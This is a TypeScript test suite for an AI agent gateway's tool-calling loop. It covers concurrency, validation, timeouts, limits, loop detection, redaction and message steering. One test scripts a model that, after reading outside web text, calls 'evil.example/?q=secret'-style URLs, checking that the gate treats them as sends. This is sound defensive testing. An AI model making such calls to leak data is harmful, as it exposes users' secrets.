import assert from 'node:assert/strict';
import { test, type TestContext } from 'node:test';
import * as z from 'zod/mini';
import { defineTool } from '../../../src/core/define-tool.ts';
import type { Message } from '../../../src/core/message.ts';
import { registerSecret } from '../../../src/core/redact.ts';
import type { RequestPart } from '../../../src/core/ports/provider.ts';
import type { Tool, ToolCall, ToolGroup, ToolOutput } from '../../../src/core/ports/tool.ts';
import { messagePath, principal, said, type PathSettings } from '../../support/message-path.ts';
import { failing, finish, start, text, usage, type Step } from '../../support/scripted-provider.ts';

const call = (name: string, args: object = {}, id = `call_${name}`): Step =>
  ({ type: 'tool_call', id, name, args }) as Step;
const called: Step = { type: 'finish', reason: 'tool_calls', raw: 'tool_calls' };
const calling = (...calls: Step[]): Step[] => [start, ...calls, usage, called];
const answering = (words: string): Step[] => [start, text(words), usage, finish];

type Run = (input: { value?: string | undefined }, call: ToolCall) => Promise<ToolOutput>;
const looking = (name: string, run: Run, more: Partial<Tool> = {}): Tool =>
  defineTool({
    name,
    description: `about ${name}`,
    effects: ['read'],
    role: 'guest',
    input: () => z.strictObject({ value: z.optional(z.string()) }),
    run,
    ...more,
  });
const changing = (name: string, run: Run): Tool => looking(name, run, { effects: ['write'] });
const group = (...tools: Tool[]): ToolGroup => ({
  name: 'things',
  about: 'things of all sorts',
  keywords: ['thing'],
  tools,
});

const path = (t: TestContext, scripts: Step[][], tools: Tool[], settings: PathSettings = {}) =>
  messagePath(t, scripts, { groups: [group(...tools)], ...settings });
const ask = async (gateway: Awaited<ReturnType<typeof path>>, words = 'do the thing') => {
  const ticket = await gateway.chat.chat(principal, { text: words });
  return { ...(await ticket.answer), sessionKey: ticket.sessionKey };
};
const historyOf = async (gateway: Awaited<ReturnType<typeof path>>, key: string): Promise<Message[]> =>
  (await gateway.store.listMessages(key, { limit: 100 })).items;
const results = (
  gateway: Awaited<ReturnType<typeof path>>,
  request = 1,
): Extract<RequestPart, { type: 'tool_result' }>[] =>
  (gateway.provider.requests[request]?.messages ?? [])
    .filter(({ role }) => role === 'tool')
    .flatMap(({ parts }) => parts.filter((part) => part.type === 'tool_result'));

test('the result of a call is read by the model, and the whole exchange stands in the history', async (t) => {
  const gateway = await path(
    t,
    [[start, text('Let me look. '), call('look', { value: 'x' }), usage, called], answering('It is 42.')],
    [looking('look', ({ value }) => Promise.resolve({ text: `${value} is 42` }))],
  );
  const answer = await ask(gateway);
  assert.equal(answer.reply.text, 'Let me look. \n\nIt is 42.');
  assert.equal(answer.finish_reason, 'stop');
  assert.equal(answer.usage.total_tokens, 34, 'both calls are counted');
  assert.deepEqual(
    results(gateway).map((part) => part.text),
    ['x is 42'],
  );
  const history = await historyOf(gateway, answer.sessionKey);
  assert.deepEqual(
    history.map(({ role }) => role),
    ['user', 'assistant', 'tool', 'assistant'],
  );
  assert.deepEqual(
    gateway.events.filter((event) => event.type === 'run.tool').map(({ tool, state }) => [tool, state]),
    [
      ['look', 'started'],
      ['look', 'finished'],
    ],
  );
  const stored = await gateway.store.runReply(answer.run_id);
  assert.equal(stored?.said.length, 2, 'an answer that is asked for again has all that was said');
  const deltas = gateway.events.filter((event) => event.type === 'run.delta').map((event) => event.text);
  assert.equal(deltas.join(''), answer.reply.text, 'what was streamed is what is answered');
});

test('calls that only look run beside each other, calls that change something one after another and in their order', async (t) => {
  const at: string[] = [];
  let together = 0;
  let most = 0;
  const work =
    (name: string): Run =>
    async () => {
      at.push(`${name} begins`);
      most = Math.max(most, ++together);
      await new Promise(setImmediate);
      together -= 1;
      at.push(`${name} ends`);
      return { text: name };
    };
  const both = await path(
    t,
    [calling(call('a'), call('b')), answering('done')],
    [looking('a', work('a')), looking('b', work('b'))],
  );
  await ask(both);
  assert.equal(most, 2);
  most = 0;
  const many = await path(
    t,
    [calling(...Array.from({ length: 8 }, (_, n) => call('a', { value: String(n) }, `c${n}`))), answering('done')],
    [looking('a', work('a'))],
  );
  await ask(many);
  assert.equal(most, 4, 'and no more than four at a time');
  at.length = 0;
  most = 0;
  const one = await path(
    t,
    [calling(call('b'), call('a')), answering('done')],
    [changing('a', work('a')), changing('b', work('b'))],
  );
  await ask(one);
  assert.equal(most, 1);
  assert.deepEqual(at, ['b begins', 'b ends', 'a begins', 'a ends']);
  assert.deepEqual(
    results(one).map((part) => part.text),
    ['b', 'a'],
  );
});

test('arguments that are no JSON, or not what the tool takes, are answered with an error and nothing is done', async (t) => {
  let runs = 0;
  const invalid: Step = { type: 'tool_invalid', id: 'c1', name: 'look', raw: '{"value": "Ro', reason: 'it ends early' };
  const gateway = await path(
    t,
    [
      calling(
        invalid,
        call('look', { value: 7 }, 'c2'),
        call('look', { owner_id: 'somebody' }, 'c3'),
        call('no_such', {}, 'c4'),
      ),
      answering('sorry'),
    ],
    [
      looking('look', () => {
        runs += 1;
        return Promise.resolve({ text: 'done' });
      }),
    ],
  );
  const answer = await ask(gateway);
  assert.equal(runs, 0);
  const told = results(gateway);
  assert.ok(told.every(({ isError }) => isError));
  assert.match(told[0]?.text ?? '', /not valid JSON.*\{"value": "Ro/s);
  assert.match(told[1]?.text ?? '', /value.*They must match/s);
  assert.match(told[2]?.text ?? '', /owner_id/);
  assert.match(told[3]?.text ?? '', /no tool "no_such"/);
  const history = await historyOf(gateway, answer.sessionKey);
  const calls = history.flatMap(({ parts }) => parts.filter((part) => part.type === 'tool_call'));
  assert.deepEqual(calls[0]?.args, {}, 'the history holds valid JSON');
});

test('a tool that hangs, throws a string, fails late or says nothing ends as a result, and the run goes on', async (t) => {
  const gateway = await path(
    t,
    [calling(call('hang'), call('throw'), call('nothing')), answering('well')],
    [
      looking('hang', () => new Promise(() => undefined), { timeoutMs: 500 }),
      looking('throw', () => Promise.reject('just a string')),
      looking('nothing', () => Promise.resolve({ text: undefined as unknown as string })),
    ],
  );
  const answer = await ask(gateway);
  assert.equal(answer.reply.text, 'well');
  const [hang, thrown, nothing] = results(gateway);
  assert.match(hang?.text ?? '', /did not end within/);
  assert.match(thrown?.text ?? '', /The tool failed/);
  assert.equal(nothing?.text, '(no output)');
});

test('an abort ends a tool that does not listen, and the run with it', async (t) => {
  const began = Promise.withResolvers<ToolCall>();
  const gateway = await path(
    t,
    [calling(call('hang')), answering('never')],
    [
      changing('hang', (_, call) => {
        began.resolve(call);
        return new Promise(() => undefined);
      }),
    ],
  );
  const ticket = await gateway.chat.chat(principal, { text: 'do the thing' });
  const { signal } = await began.promise;
  gateway.runs.abortRun(ticket.runId, null, 'requested', 'enough');
  await assert.rejects(ticket.answer, { code: 'aborted' });
  assert.ok(signal.aborted);
  const history = await historyOf(gateway, ticket.sessionKey);
  assert.deepEqual(
    history.map(({ role }) => role),
    ['user', 'assistant'],
    'the next turn knows that the call was begun',
  );
});

test('of a long result the model reads the beginning and the end, and the whole is kept for the person', async (t) => {
  const long = `begin${'x'.repeat(5000)}end`;
  const gateway = await path(
    t,
    [calling(call('look')), answering('ok')],
    [looking('look', () => Promise.resolve({ text: long }))],
    {
      maxResult: 1000,
    },
  );
  await ask(gateway);
  const [result] = results(gateway);
  assert.ok((result?.text.length ?? 0) < 1200);
  assert.match(result?.text ?? '', /^begin.*read_result reads it: "file_1".*end$/s);
  assert.deepEqual(gateway.kept, [long]);
});

test('at the limit of steps the model is asked once more, for words only', async (t) => {
  const gateway = await path(
    t,
    [
      calling(call('look', { value: 'a' })),
      calling(call('look', { value: 'b' })),
      [start, call('look'), text('so far'), usage, called],
    ],
    [looking('look', ({ value }) => Promise.resolve({ text: value ?? '' }))],
    {
      agent: { limits: { timeoutMs: 600_000, steps: 3, callsPerStep: 8, cost: null, contextTokens: 32_000 } },
    },
  );
  const answer = await ask(gateway);
  assert.equal(answer.finish_reason, 'limit_steps');
  assert.equal(answer.reply.text, 'so far');
  assert.deepEqual(
    gateway.provider.requests.map(({ wordsOnly = false }) => wordsOnly),
    [false, false, true],
  );
  assert.ok((gateway.provider.requests[2]?.tools.length ?? 0) > 0, 'the tools are still named: the history calls them');
});

test('at the limit of time a tool that is at work is ended, and the model is asked once more, for words only', async (t) => {
  let told: AbortSignal | null = null;
  const gateway = await path(
    t,
    [calling(call('hang')), answering('so far')],
    [
      looking('hang', (_, { signal }) => {
        told = signal;
        return new Promise(() => undefined);
      }),
    ],
    {
      agent: { limits: { timeoutMs: 10_000, steps: 25, callsPerStep: 8, cost: null, contextTokens: 32_000 } },
    },
  );
  const answer = await ask(gateway);
  assert.deepEqual([answer.finish_reason, answer.reply.text], ['limit_time', 'so far']);
  assert.match(results(gateway)[0]?.text ?? '', /did not end within 9 s/);
  assert.equal((told as AbortSignal | null)?.aborted, true, 'it was told that nobody waits for it any more');
});

test('at the limit of what a run may cost nothing is called any more', async (t) => {
  let runs = 0;
  const gateway = await path(
    t,
    [[start, call('look'), text('so far'), usage, called]],
    [looking('look', () => Promise.resolve({ text: String(++runs) }))],
    {
      agent: { limits: { timeoutMs: 600_000, steps: 25, callsPerStep: 8, cost: 0, contextTokens: 32_000 } },
    },
  );
  const answer = await ask(gateway);
  assert.deepEqual([answer.finish_reason, answer.reply.text, runs], ['limit_cost', 'so far', 0]);
});

test('what an attempt called that then failed is not carried out', async (t) => {
  let runs = 0;
  const gateway = await path(
    t,
    [[start, call('change'), ...failing('server', { phase: 'mid_output' })], answering('done')],
    [changing('change', () => Promise.resolve({ text: String(++runs) }))],
  );
  assert.deepEqual([(await ask(gateway)).reply.text, runs], ['done', 0]);
});

test('words that begin like a secret and are none are not lost at the end of an answer', async (t) => {
  registerSecret('quite-a-long-secret-of-ours');
  const words = 'It begins with quite-a-long-sec';
  const gateway = await path(t, [answering(words)], []);
  const { reply } = await ask(gateway);
  assert.equal(reply.text, words);
  const deltas = gateway.events.filter((event) => event.type === 'run.delta').map((event) => event.text);
  assert.equal(deltas.join(''), words);
});

test('what a call came to is written down before the model is asked again', async (t) => {
  const gateway = await path(
    t,
    [calling(call('change')), [start, 'hang']],
    [changing('change', () => Promise.resolve({ text: 'it is changed' }))],
  );
  const { messageId, sessionKey, answer } = await gateway.chat.chat(principal, { text: 'do it', idempotencyKey: 'k' });
  answer.catch(() => undefined);
  while (gateway.provider.hits < 2) await gateway.clock.sleep(10);
  await gateway.runs.stop(0);
  const request = { mode: 'followup', maxStarts: 5, historyTurns: 5, historyLimit: 50, at: 0 } as const;
  const claimed = await gateway.store.claimRun({ ...request, sessionKey });
  assert.equal(claimed?.run.messageId, messageId);
  assert.deepEqual(
    claimed?.journal.map(({ kind, state, data }) => [kind, state, data['text']]),
    [
      ['model', 'finished', undefined],
      ['tool', 'started', undefined],
      ['tool', 'finished', 'it is changed'],
    ],
  );
});

test('a model that makes the same call with the same result again and again is told so, and then stopped', async (t) => {
  let runs = 0;
  const gateway = await path(
    t,
    [calling(call('look', { value: 'a' }))],
    [
      looking('look', () => {
        runs += 1;
        return Promise.resolve({ text: 'same' });
      }),
    ],
  );
  gateway.provider.scripts = [
    ...Array.from({ length: 5 }, () => calling(call('look', { value: 'a' }))),
    answering('I give up'),
  ];
  const answer = await ask(gateway);
  assert.equal(answer.finish_reason, 'loop_detected');
  assert.equal(answer.reply.text, 'I give up');
  assert.equal(runs, 5);
  assert.match(results(gateway, 4)[2]?.text ?? '', /several times with the same result/);
});

test('more calls than a step may have are not carried out', async (t) => {
  let runs = 0;
  const many = Array.from({ length: 200 }, (_, n) => call('look', { value: String(n) }, `c${n}`));
  const gateway = await path(
    t,
    [calling(...many), answering('ok')],
    [
      looking('look', () => {
        runs += 1;
        return Promise.resolve({ text: 'done' });
      }),
    ],
  );
  await ask(gateway);
  assert.equal(runs, 8);
  assert.equal(results(gateway).length, 200, 'each of them has its result');
});

test('a group travels once a word of the person, a call of it or the wish of the model shows the need', async (t) => {
  const tool = looking('look', () => Promise.resolve({ text: 'ok' }));
  const greeted = await path(t, [answering('Hello')], [tool]);
  await ask(greeted, 'hello');
  assert.deepEqual(
    greeted.provider.requests[0]?.tools.map(({ name }) => name),
    ['use_tools'],
  );
  await ask(greeted, 'Where are my THINGS?');
  assert.deepEqual(
    greeted.provider.requests[1]?.tools.map(({ name }) => name),
    ['use_tools', 'look'],
  );
  const wished = await path(
    t,
    [calling(call('use_tools', { groups: ['things', 'nothing'] })), answering('Hello')],
    [tool],
  );
  await ask(wished, 'hello');
  assert.deepEqual(
    wished.provider.requests[1]?.tools.map(({ name }) => name),
    ['use_tools', 'look'],
  );
  assert.match(results(wished)[0]?.text ?? '', /things: look\nNot there: nothing/);
});

test('equal histories make equal prefixes: each request begins with the bytes of the one before', async (t) => {
  const gateway = await path(
    t,
    [answering('one'), calling(call('look')), answering('two'), answering('three')],
    [looking('look', () => Promise.resolve({ text: 'page', outside: 'web page' }))],
  );
  for (const words of ['thing one', 'thing two', 'thing three']) await ask(gateway, words);
  const bytes = gateway.provider.requests.map(({ system, tools, messages }) => ({
    head: JSON.stringify({ system, tools }),
    messages: messages.map((message) => JSON.stringify(message)),
  }));
  for (const [n, { head, messages }] of bytes.entries()) {
    const before = bytes[n - 1];
    if (before === undefined) continue;
    assert.equal(head, before.head);
    assert.deepEqual(messages.slice(0, before.messages.length), before.messages);
  }
  assert.match(JSON.stringify(gateway.provider.requests[3]?.messages), /outside text [0-9a-f]{12} from web page/);
});

test('what a failed run did stands in the history, so that it is not done twice', async (t) => {
  let runs = 0;
  const broken: Step[] = [
    { type: 'error', error: { kind: 'invalid_request', phase: 'headers', accepted: 'no', detail: 'no' } },
  ];
  const gateway = await path(
    t,
    [calling(call('change')), broken, answering('All is done.')],
    [
      changing('change', () => {
        runs += 1;
        return Promise.resolve({ text: 'changed' });
      }),
    ],
  );
  const failed = await gateway.chat.chat(principal, { text: 'do the thing', idempotencyKey: 'k' });
  await assert.rejects(failed.answer);
  const again = await gateway.chat.chat(principal, { text: 'do the thing', idempotencyKey: 'k' });
  assert.equal((await again.answer).reply.text, 'All is done.');
  assert.equal(runs, 1);
  assert.deepEqual(
    (await historyOf(gateway, again.sessionKey)).map(({ role }) => role),
    ['user', 'assistant', 'tool', 'assistant'],
  );
});

test('what is written while a run is at work joins it between two steps, in queue mode steer', async (t) => {
  const began = Promise.withResolvers<void>();
  const go = Promise.withResolvers<void>();
  const gateway = await path(
    t,
    [calling(call('look')), answering('Blue, then.')],
    [
      looking('look', async () => {
        began.resolve();
        await go.promise;
        return { text: 'done' };
      }),
    ],
    { queueMode: 'steer' },
  );
  gateway.attach();
  const sink = gateway.ingress.sinkFor('scripted', 'main');
  await sink.commit([said('paint the thing red')]);
  await began.promise;
  await sink.commit([said('no, blue')]);
  go.resolve();
  await gateway.event('run.finished');
  const [, second] = gateway.provider.requests;
  assert.deepEqual(
    second?.messages.map(({ role }) => role),
    ['user', 'assistant', 'tool', 'assistant', 'user'],
  );
  assert.equal(JSON.stringify(second?.messages.at(-1)).includes('no, blue'), true);
  const [session] = (await gateway.store.listSessions(null, { limit: 10 })).items;
  const history = await historyOf(gateway, session?.key ?? '');
  assert.deepEqual(
    history.map(({ role }) => role),
    ['user', 'assistant', 'tool', 'user', 'assistant'],
  );
  assert.equal(gateway.provider.hits, 2, 'it is answered by the same run');
});

test('nobody joins a run that ends with a question to a person: they are answered by a run of their own', async (t) => {
  const began = Promise.withResolvers<void>();
  const go = Promise.withResolvers<void>();
  const look = looking('look', async () => {
    began.resolve();
    await go.promise;
    return { text: 'seen' };
  });
  const change = changing('change', () => Promise.resolve({ text: 'changed' }));
  const scripts = [calling(call('look'), call('change')), answering('Blue, then.')];
  const toolPolicy = { base: { write: 'ask' as const }, roles: {}, channels: {}, agents: {}, tools: {} };
  const gateway = await path(t, scripts, [look, change], { queueMode: 'steer', toolPolicy });
  gateway.attach();
  const sink = gateway.ingress.sinkFor('scripted', 'main');
  await sink.commit([said('paint the thing red')]);
  await began.promise;
  const [receipt] = (await sink.commit([said('and what is blue?')])) ?? [];
  go.resolve();
  await gateway.event('run.finished');
  assert.notEqual((await gateway.store.inbound(receipt?.messageId ?? ''))?.state, 'merged');
  const ended = await gateway.event('run.finished', ({ answer }) => answer.message_id === receipt?.messageId);
  assert.equal(ended.answer.reply.text, 'Blue, then.');
});

test('nobody joins a run whose answer has files to go along: only its journal knows of them', async (t) => {
  const began = Promise.withResolvers<void>();
  const go = Promise.withResolvers<void>();
  const draw = changing('draw', async () => {
    began.resolve();
    await go.promise;
    return { text: 'drawn', files: [{ id: 'file_1', mimeType: 'image/png', size: 3 }] };
  });
  const scripts = [calling(call('draw')), answering('Here it is.'), answering('Blue, then.')];
  const gateway = await path(t, scripts, [draw], { queueMode: 'steer' });
  gateway.attach();
  const sink = gateway.ingress.sinkFor('scripted', 'main');
  await sink.commit([said('draw the thing in red')]);
  await began.promise;
  const [receipt] = (await sink.commit([said('no, blue')])) ?? [];
  go.resolve();
  await gateway.event('run.finished');
  assert.notEqual((await gateway.store.inbound(receipt?.messageId ?? ''))?.state, 'merged');
  await gateway.event('run.finished', ({ answer }) => answer.message_id === receipt?.messageId);
  assert.equal(gateway.provider.hits, 3, 'it is answered by a run of its own');
});

test('after outside text was read, an address that nobody named is a message: it is judged as one', async (t) => {
  const judged: (readonly string[])[] = [];
  const fetching = defineTool({
    name: 'fetch',
    description: 'reads a page',
    effects: ['read'],
    role: 'guest',
    input: () => z.strictObject({ url: z.string() }),
    addressOf: ({ url }) => url,
    run: () => Promise.resolve({ text: 'see https://a.example/more', outside: 'web page' }),
  });
  const url = (of: string, n: number): Step[] => calling(call('fetch', { url: `https://${of}` }, `c${n}`));
  const gateway = await path(
    t,
    [
      url('a.example', 1),
      url('a.example/more', 2),
      url('evil.example/?q=secret', 3),
      // What it wrote itself comes back in the words of a failure, and is no less its own.
      calling(call('https://evil.example/?q=other', {}, 'c4'), call('use_tools', { groups: ['https://evil.example'] })),
      url('evil.example/?q=other', 5),
      url('evil.example', 6),
      answering('ok'),
    ],
    [fetching],
    {
      gate: {
        judge: ({ effects }) => {
          judged.push(effects);
          return { decision: 'allow' };
        },
        ask: () => Promise.reject(new Error('not asked')),
      },
    },
  );
  await ask(gateway, 'read https://a.example');
  const named = ['read'];
  const invented = ['read', 'send'];
  assert.deepEqual(judged, [named, named, invented, invented, invented]);
});

test('a server that numbers the calls of each answer anew has no call taken for an earlier one', async (t) => {
  const seen: string[] = [];
  const send = changing('send', (_, { id }) => {
    seen.push(id);
    return Promise.resolve({ text: 'sent' });
  });
  const again = calling(call('send', { value: 'a' }, 'call_0'), call('send', { value: 'b' }, 'call_0'));
  const gateway = await path(t, [again, again, answering('Done.')], [send]);
  await ask(gateway);
  assert.equal(seen.length, 4);
  assert.equal(new Set(seen).size, 4, seen.join());
  assert.deepEqual(
    results(gateway, 2).map(({ callId }) => callId),
    seen,
  );
});
